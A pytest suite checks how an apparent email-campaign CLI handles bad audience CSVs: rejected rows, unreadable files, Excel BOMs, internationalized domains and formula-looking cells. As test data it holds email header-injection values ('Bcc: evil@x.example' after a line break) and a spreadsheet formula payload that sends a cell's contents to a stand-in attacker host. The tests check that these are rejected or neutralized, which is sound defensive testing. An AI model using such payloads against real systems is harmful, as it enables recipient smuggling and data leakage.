"""Bad audience CSVs, through the real CLI against a real database and SMTP sink.

* A bad **row** is reported with its file, row number and column, and left out; the good rows
  (including one *after* the bad row) still launch and are sent to, and the bad row's address
  never receives anything.
* A file that cannot be read at all (encoding, header) refuses the launch: nothing is written.
* Inputs that are odd but valid (an Excel BOM with CRLF, an internationalized domain, a cell that
  looks like a spreadsheet formula) launch, and a formula never reaches a CSV export as one.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.faults.badinput import Sandbox, nonzero, row_counts
from tests.reliability import Recorder
from tests.smtp_sink import Sink

GOOD = {
    "aiko.tanaka@kumo.example",
    "elena.park@northbank.example",
    "john.reyes@ledgerline.example",
    "marc.dubois@paysage.example",
    "priya.nair@fintrust.example",
    "sam.ortiz@cleardesk.example",
}
LATE = "late.good@ok.example"  # a good row after the bad one: it must still launch
SQLITE_ONLY = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)


@pytest.fixture
def sandbox(db_url: str, tmp_path: Path, smtp_sink: Sink) -> Sandbox:
    return Sandbox(db_url, tmp_path / "camp", smtp_sink)


@dataclass(frozen=True)
class RowCase:
    id: str
    file: str  # the CSV the bad row goes to
    row: str  # the bad row, appended after the example's rows
    address: str  # who must never be written to because of it
    expected: tuple[str, ...]  # problem lines (prefixes), in order
    referral: str = ""  # a referral row for the bad prospect (prospects cases)
    pg: bool = False


HINT_FIX = "(fix the address or remove the row)"
CASES = [
    RowCase(
        "invalid address",
        "prospects",
        "not-an-email,Bad,Row,,,,",
        "not-an-email",
        (f"prospects.csv: row 8: email: An email address must have an @-sign. {HINT_FIX}",),
        pg=True,
    ),
    RowCase(
        "non-ASCII local part (needs SMTPUTF8)",
        "prospects",
        "jos\u00e9@example.com,Jose,B,,,,",
        "jos\u00e9@example.com",
        (
            "prospects.csv: row 8: email: the part before the @-sign has non-ASCII characters, "
            f"which we cannot send to {HINT_FIX}",
        ),
    ),
    RowCase(
        "duplicate by case and whitespace",
        "prospects",
        "  ELENA.PARK@NorthBank.example  ,Elena,Again,,,,",
        "elena.park@northbank.example",  # she gets her one message, not two
        (
            "prospects.csv: row 8: email: duplicate of row 2 "
            "(the first row is used; remove this one)",
        ),
        pg=True,
    ),
    RowCase(
        "line break in a name",
        "prospects",
        'x1@ok.example,"Ann\nBcc: evil@x.example",B,,,,',
        "x1@ok.example",
        (
            "prospects.csv: row 8: first_name: contains a line break or control character "
            "(U+000A) (keep this field on one line without control characters)",
        ),
    ),
    RowCase(
        "carriage return in a company",
        "prospects",
        'x2@ok.example,Ann,B,CEO,"Acme\rBcc: evil@x.example",,',
        "x2@ok.example",
        ("prospects.csv: row 8: company: contains a line break or control character (U+000D)",),
    ),
    RowCase(
        "control character (BEL) in a title",
        "prospects",
        "x3@ok.example,Ann,B,CEO\x07,,,",
        "x3@ok.example",
        ("prospects.csv: row 8: title: contains a line break or control character (U+0007)",),
    ),
    RowCase(
        "Unicode line separator in a name",
        "prospects",
        "x4@ok.example,Ann\u2028Bcc,B,,,,",
        "x4@ok.example",
        ("prospects.csv: row 8: first_name: contains a line break or control character (U+2028)",),
    ),
    RowCase(
        "ragged row (extra cells)",
        "prospects",
        "x5@ok.example,Ann,B,,,,,extra,cells",
        "x5@ok.example",
        (
            "prospects.csv: row 8: the row has 9 cells but the header has 7 columns "
            "(quote values that contain commas, or remove the extra cells)",
        ),
    ),
    RowCase(
        "short row (required cell missing)",
        "prospects",
        "x6@ok.example",
        "x6@ok.example",
        ("prospects.csv: row 8: first_name: is empty (fill it in or remove the row)",),
    ),
    RowCase(
        "oversize field (200 kB)",
        "prospects",
        "x7@ok.example,Ann,B,,,," + "A" * 200_000,
        "x7@ok.example",
        (
            "prospects.csv: row 8: cannot read this row: field larger than field limit (131072) "
            "(fix the row)",
        ),
        pg=True,
    ),
    RowCase(
        "unknown time zone",
        "prospects",
        "x8@ok.example,Ann,B,,,Mars/Base,",
        "x8@ok.example",
        ("prospects.csv: row 8: timezone: 'Mars/Base' is not a known IANA time zone",),
    ),
    RowCase(
        "the referrer is the prospect",
        "prospects",
        "james@pixel.example,James,Hervin,,,,",
        "james@pixel.example",
        (
            "referrals.csv: row 9: prospect_email: the referrer is the prospect "
            "(a person cannot refer themselves; remove the row)",
        ),
        referral="james-hervin,james@pixel.example,5,yourself",
        pg=True,
    ),
    RowCase(
        "relationship strength out of range",
        "referrals",
        "jon-smith,x9@ok.example,6,a colleague",
        "x9@ok.example",
        (
            "referrals.csv: row 9: strength: '6' is not a whole number from 1 to 5 "
            "(use a whole number from 1 to 5)",
        ),
        referral="",
    ),
    RowCase(
        "referral to an unknown referrer (typo)",
        "referrals",
        "jon-smiht,elena.park@northbank.example,5,a colleague",
        "",
        (
            "referrals.csv: row 9: referrer_id: no referrer with id 'jon-smiht' in "
            "referrers.csv (did you mean 'jon-smith'?)",
        ),
    ),
    RowCase(
        "consent that is neither yes nor no",
        "referrers",
        "kim-lee,Kim Lee,kim@lee.example,CEO,Lee,no,,5,knows us well,maybe",
        "",
        (
            "referrers.csv: row 6: consent: 'maybe' is not yes or no "
            "(use yes/no, true/false, y/n or 1/0; empty means no)",
        ),
    ),
]


def _params() -> list[object]:
    out = []
    for case in CASES:
        for db in ("sqlite", "postgresql") if case.pg else ("sqlite",):
            marks = [pytest.mark.pg] if db == "postgresql" else []
            out.append(pytest.param(case, db, id=f"{db}-{case.id}", marks=marks))
    return out


def _append(sandbox: Sandbox, name: str, *rows: str) -> None:
    sandbox.write_csv(name, sandbox.read_csv(name) + "".join(r + "\n" for r in rows))


@pytest.mark.reliability
@pytest.mark.parametrize(("case", "db_url"), _params(), indirect=["db_url"])
def test_a_bad_row_is_reported_and_the_good_rows_still_launch(
    case: RowCase, sandbox: Sandbox, reliability: Recorder
) -> None:
    late_prospect = f"{LATE},Late,Good,CFO,Okay,UTC,banking"
    late_referral = f"jon-smith,{LATE},5,your former colleague"
    if case.file == "prospects":
        _append(sandbox, "prospects", case.row, late_prospect)
        referral = case.referral or f"jon-smith,{case.address.strip()},5,a colleague"
        _append(sandbox, "referrals", referral, late_referral)
    else:
        _append(sandbox, "prospects", late_prospect)
        if case.file == "referrals":
            _append(sandbox, "referrals", case.row, late_referral)
        else:
            _append(sandbox, "referrals", late_referral)
            _append(sandbox, case.file, case.row)

    validate = sandbox.cli("validate", str(sandbox.yaml), code=1).stderr.splitlines()
    report = sandbox.launched()
    sandbox.tick()

    problems = [
        f"{p['source']}: row {p['row']}: {p['field'] + ': ' if p['field'] else ''}{p['message']}"
        for p in report["row_problems"]
    ]
    bad_sends = sandbox.sent_to(case.address) - (1 if case.address in GOOD else 0)
    others = set(sandbox.recipients()) - GOOD - {LATE}
    reliability.record(
        "csv",
        case.id,
        trials=1,
        wrong_sends=bad_sends + len(others),
        outcome=f"row reported, {report['enrolled']} good rows launched: {case.expected[0][:80]}",
    )
    for i, line in enumerate(case.expected):  # where and why, in validate and in launch
        assert validate[i].startswith(line), (validate, line)
        assert problems[i] in validate[i], (problems, validate)
    assert report["enrolled"] == len(GOOD) + 1  # every good row, the one after the bad row too
    assert sorted(sandbox.recipients()) == sorted(GOOD | {LATE})  # one message each
    assert bad_sends == 0 and not others


@pytest.mark.reliability
@pytest.mark.parametrize(
    ("fault", "file", "content", "expected"),
    [
        (
            "non-UTF-8 (Latin-1) file",
            "prospects",
            lambda t: t.replace("Elena,Park", "Elena,P\u00e4rk").encode("latin-1"),
            "prospects.csv: row 2: the file is not UTF-8 text (byte 0xe4 on this row) "
            "(save the file as UTF-8)",
        ),
        (
            "UTF-16 file",
            "referrers",
            lambda t: t.encode("utf-16"),
            "referrers.csv: row 1: the file is not UTF-8 text (byte 0xff on this row) "
            "(save the file as UTF-8)",
        ),
        (
            "missing column",
            "prospects",
            lambda t: t.replace("first_name,", "first,"),
            "prospects.csv: row 1: missing required column(s): first_name (the header row must "
            "name email, first_name; found: email, first, last_name, title, company, timezone, "
            "industry)",
        ),
        (
            "duplicate column",
            "referrals",
            lambda t: t.replace("context", "Strength"),
            "referrals.csv: row 1: column(s) named more than once: strength "
            "(give every column a different name)",
        ),
        (
            "empty file",
            "referrers",
            lambda t: "",
            "referrers.csv: row 1: the file is empty (add a header row: id,name,our_strength)",
        ),
    ],
    ids=["latin1", "utf16", "missing-column", "duplicate-column", "empty"],
)
def test_an_unreadable_csv_refuses_the_launch(
    sandbox: Sandbox, reliability: Recorder, fault: str, file: str, content: object, expected: str
) -> None:
    sandbox.write_csv(file, content(sandbox.read_csv(file)))  # type: ignore[operator]
    outcome = sandbox.refused()
    reliability.record(
        "csv",
        fault,
        trials=1,
        wrong_sends=len(sandbox.sink.handler.received),
        outcome="launch refused, nothing written: " + expected.split(": ", 2)[2][:70],
    )
    assert outcome.validate[0] == expected
    assert outcome.launch[0] == expected
    assert outcome.launch[-1] == "1 problem(s); nothing was changed."


@pytest.mark.reliability
@SQLITE_ONLY
def test_an_excel_export_with_bom_and_crlf_launches_whole(
    sandbox: Sandbox, reliability: Recorder
) -> None:
    for name in ("prospects", "referrers", "referrals"):
        text = sandbox.read_csv(name)
        sandbox.write_csv(name, ("\ufeff" + text).replace("\n", "\r\n").encode("utf-8"))
    assert (
        "OK (6 prospects, 4 referrers, 7 referrals)"
        in sandbox.cli("validate", str(sandbox.yaml)).stdout
    )
    report = sandbox.launched()
    sandbox.tick()
    reliability.record(
        "csv",
        "Excel 'CSV UTF-8' (BOM, CRLF) in all three files",
        trials=1,
        wrong_sends=len(set(sandbox.recipients()) - GOOD),
        outcome=f"{report['enrolled']} enrolled, {len(sandbox.recipients())} sent",
    )
    assert report["enrolled"] == 6 and sorted(sandbox.recipients()) == sorted(GOOD)


@pytest.mark.reliability
@SQLITE_ONLY
def test_an_unclosed_quote_is_reported_where_it_opens(
    sandbox: Sandbox, reliability: Recorder
) -> None:
    """The csv module reads an unclosed quote on to the end of the file without complaint:
    one cell then holds every row after it. Say so, at the row where the quote opens."""
    lines = sandbox.read_csv("prospects").splitlines()
    last = len(lines)
    lines[2] = lines[2].replace(",", ',"', 1)  # row 3's first name opens a quote, never closed
    sandbox.write_csv("prospects", "\n".join(lines) + "\n")
    first_good = lines[1].split(",")[0]

    validate = sandbox.cli("validate", str(sandbox.yaml), code=1).stderr.splitlines()
    report = sandbox.launched()
    sandbox.tick()
    expected = (
        f"prospects.csv: row 3: a quote opened in this row is never closed: lines 3-{last} "
        "were read as one cell, so the rows on them were not imported"
    )
    wrong = len(set(sandbox.recipients()) - {first_good})
    reliability.record(
        "csv",
        "a quote opened and never closed (the rest of the file read as one cell)",
        trials=1,
        wrong_sends=wrong,
        outcome=f"reported at row 3 (lines 3-{last}); {report['enrolled']} row(s) before it launched",
    )
    assert validate[0].startswith(expected), validate
    assert any(p["row"] == 3 and "never closed" in p["message"] for p in report["row_problems"])
    assert report["enrolled"] == 1 and sandbox.recipients() == [first_good]


@pytest.mark.reliability
@SQLITE_ONLY
def test_an_internationalized_domain_is_enrolled_and_sent_once(
    sandbox: Sandbox, reliability: Recorder
) -> None:
    idn = "anna@b\u00fccher.example"
    _append(sandbox, "prospects", f"{idn},Anna,Becker,CTO,B\u00fccher,Europe/Berlin,books")
    _append(sandbox, "referrals", f"jon-smith,{idn},5,your former colleague at M\u00fcnchen Re")
    report = sandbox.launched()
    sandbox.tick()
    to_anna = [m for m in sandbox.sink.handler.received if "Anna" in m.message["To"]]
    reliability.record(
        "csv",
        "internationalized domain (b\u00fccher.example)",
        trials=1,
        wrong_sends=max(0, len(to_anna) - 1),
        outcome=f"enrolled; one message, To: {to_anna[0].message['To'] if to_anna else None}, "
        f"RCPT TO: {to_anna[0].rcpt_tos if to_anna else None}",
    )
    assert report["enrolled"] == 7 and report["row_problems"] == []
    assert len(to_anna) == 1
    assert to_anna[0].message["To"].addresses[0].domain in (
        "xn--bcher-kva.example",
        "b\u00fccher.example",
    )


@pytest.mark.reliability
@pytest.mark.parametrize(
    "db_url", ["sqlite", pytest.param("postgresql", marks=pytest.mark.pg)], indirect=True
)
def test_a_formula_looking_cell_is_text_and_never_a_formula_in_an_export(
    sandbox: Sandbox, reliability: Recorder
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"James")'
    referrers = sandbox.read_csv("referrers")
    quoted = '"' + formula.replace('"', '""') + '"'
    sandbox.write_csv("referrers", referrers.replace(",James Hervin,", f",{quoted},", 1))
    sandbox.write_csv(
        "prospects", sandbox.read_csv("prospects").replace(",Northbank,", ",@SUM(1+1),")
    )
    report = sandbox.launched()
    sandbox.tick()
    exported = sandbox.cli("report", "--format", "csv", "--section", "referrers").stdout
    rows = list(csv.reader(io.StringIO(exported)))
    names = [r[1] for r in rows[1:]]
    edges = sandbox.cli("report", "--format", "csv", "--section", "edges").stdout
    raw_formula_cells = sum(
        cell.startswith(("=", "+", "-", "@"))
        for row in [*rows, *csv.reader(io.StringIO(edges))]
        for cell in row
    )
    reliability.record(
        "csv",
        "formula-looking cells (=HYPERLINK, @SUM) in the input",
        trials=2,
        wrong_sends=0,
        outcome=f"kept as text; {raw_formula_cells} formula cells in the CSV exports",
    )
    assert report["enrolled"] == 6 and report["row_problems"] == []
    assert "'" + formula in names  # shown, not run, when the export is opened in a spreadsheet
    assert raw_formula_cells == 0
    assert nonzero(row_counts(sandbox.db_url))["enrollments"] == 6
